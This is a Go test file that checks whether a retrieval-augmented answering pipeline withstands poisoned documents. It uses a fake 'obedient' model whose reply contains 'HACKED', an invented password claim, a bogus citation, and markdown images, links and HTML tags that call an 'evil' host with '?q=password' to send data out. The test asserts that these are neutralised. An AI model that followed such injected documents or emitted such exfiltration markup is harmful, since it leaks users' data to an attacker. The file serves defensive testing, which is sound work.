package eval_test

import (
	"context"
	"strings"
	"testing"

	ragflow "example.com/ragflow"
	"example.com/ragflow/internal/skills/cite"
	"example.com/ragflow/internal/transcript"
	"example.com/ragflow/llm"
)

// obedient is a model that obeys documents: it answers with their claims, and with marks, images, links and
// HTML.
type obedient struct{ payload string }

func (obedient) Model() string { return "obedient" }

func (o obedient) Complete(_ context.Context, r llm.Request, token func(string)) (llm.Response, error) {
	system := r.Messages[0].Content
	said := "NONE"
	switch {
	case strings.Contains(system, "SCORE"):
		said = "SCORE: 0.90"
	case strings.Contains(system, "[Source N]"):
		said = "HACKED " + o.payload + " [Source 1].\n\nThe password is 12345 [Source 9].\n\n" +
			"![x](" + evil + "?q=password) [click](" + evil + ") <img src=" + evil + "> <" + evil + ">\n\n[e]: " + evil
	}
	if token != nil {
		token(said)
	}
	return llm.Response{Text: said}, nil
}

// TestHostileThroughAModel lets a model obey one document of each family: the answer loads nothing, cites
// only existing sources, and marks no invention as supported.
func TestHostileThroughAModel(t *testing.T) {
	dir, all := poisoned(t)
	families := attacks()
	for i, h := range all {
		if i%10 != i/10%10 { // another variant of each family
			continue
		}
		t.Run(h.source, func(t *testing.T) {
			for _, strict := range []bool{false, true} {
				a, err := ragflow.Open(t.Context(), ragflow.Config{
					Docs: []string{dir + "/" + h.source}, Models: ragflow.Models{Chat: obedient{families[i/10].payloads[i%10]}}, Settings: ragflow.Settings{Strict: strict},
				})
				if err != nil {
					t.Fatal(err)
				}
				defer a.Close()
				r, err := a.Ask(t.Context(), ragflow.Question{Text: h.question, Trace: true})
				if err != nil {
					t.Fatal(err)
				}
				if r.Model != "obedient" {
					t.Fatalf("answered by %s: %q", r.Model, r.Warnings)
				}
				markdown(t, "answer", r.Answer)
				markdown(t, "answer.md", r.AnswerMD)
				markdown(t, "flow_trace.md", r.FlowTraceMD)
				unseen(t, "answer", transcript.Visible(r.Answer))
				if v := cite.Validate(r.Answer, r.Chunks.Context); v.Invalid != 0 {
					t.Errorf("%d invalid marks are left in %q", v.Invalid, r.Answer)
				}
				if strings.Count(r.Answer, "\n```")%2 == 1 || strings.HasPrefix(r.Answer, "```") {
					continue // text in an unclosed code block claims nothing
				}
				for line := range strings.Lines(r.Answer) {
					if strings.Contains(line, "password is") && (strict || !strings.Contains(line, "(unsupported)")) {
						t.Errorf("strict %v: what was invented stands as if it were said: %q", strict, line)
					}
				}
			}
		})
	}
}
